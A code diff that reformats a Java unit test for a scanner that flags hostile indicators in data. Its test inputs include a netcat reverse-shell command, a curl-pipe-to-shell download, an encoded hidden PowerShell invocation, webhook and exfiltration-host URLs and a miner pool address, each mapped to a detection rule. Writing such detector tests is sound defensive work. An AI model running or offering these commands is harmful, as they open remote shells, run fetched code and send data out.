@@ -36,16 +36,26 @@ class SweepTest {
     @Test
     void commands_and_hosts_in_data_are_told_by_their_rules() {
         Map.of(
-                        REVERSE_SHELL, "indicator/reverse-shell",
-                        "nc -e /bin/sh 10.0.0.1 4242", "indicator/reverse-shell",
-                        "powershell.exe -nop -w hidden -enc " + "QUJD".repeat(20), "indicator/encoded-command",
-                        "curl -s https://host.example/x.sh | sh", "indicator/piped-download",
-                        "https://discord.com/api/webhooks/123456789012345678/" + "aB3_".repeat(17), "indicator/webhook",
-                        "https://api.telegram.org/bot123456789:" + "AbC-123".repeat(5), "indicator/webhook",
-                        "http://45.61.184.7:8080/stage2", "indicator/raw-address",
-                        "https://x1y2.oast.fun/?q=", "indicator/exfiltration-host",
-                        "stratum+tcp://pool.example:3333", "indicator/miner")
-                .forEach((text, rule) -> assertThat(inData(text).rules()).as(text).containsExactly(rule));
+                        REVERSE_SHELL,
+                        "indicator/reverse-shell",
+                        "nc -e /bin/sh 10.0.0.1 4242",
+                        "indicator/reverse-shell",
+                        "powershell.exe -nop -w hidden -enc " + "QUJD".repeat(20),
+                        "indicator/encoded-command",
+                        "curl -s https://host.example/x.sh | sh",
+                        "indicator/piped-download",
+                        "https://discord.com/api/webhooks/123456789012345678/" + "aB3_".repeat(17),
+                        "indicator/webhook",
+                        "https://api.telegram.org/bot123456789:" + "AbC-123".repeat(5),
+                        "indicator/webhook",
+                        "http://45.61.184.7:8080/stage2",
+                        "indicator/raw-address",
+                        "https://x1y2.oast.fun/?q=",
+                        "indicator/exfiltration-host",
+                        "stratum+tcp://pool.example:3333",
+                        "indicator/miner")
+                .forEach((text, rule) ->
+                        assertThat(inData(text).rules()).as(text).containsExactly(rule));
     }
 
     @Test
@@ -129,10 +139,12 @@ class SweepTest {
 
     @Test
     void licences_and_hosts_are_facts_and_restrictive_ones_are_told() {
-        Trial trial = inText("---\nlicense: cc-by-nc-4.0\n---\nsee https://huggingface.co/a and https://huggingface.co/b");
+        Trial trial =
+                inText("---\nlicense: cc-by-nc-4.0\n---\nsee https://huggingface.co/a and https://huggingface.co/b");
         assertThat(trial.facts).containsEntry("licence", "CC-BY-NC-4.0").containsEntry("hosts", "huggingface.co");
         assertThat(trial.rules()).containsExactly("licence/restrictive");
-        assertThat(inText("use with the GNU Affero General Public License").findings).isEmpty();
+        assertThat(inText("use with the GNU Affero General Public License").findings)
+                .isEmpty();
     }
 
     @Test
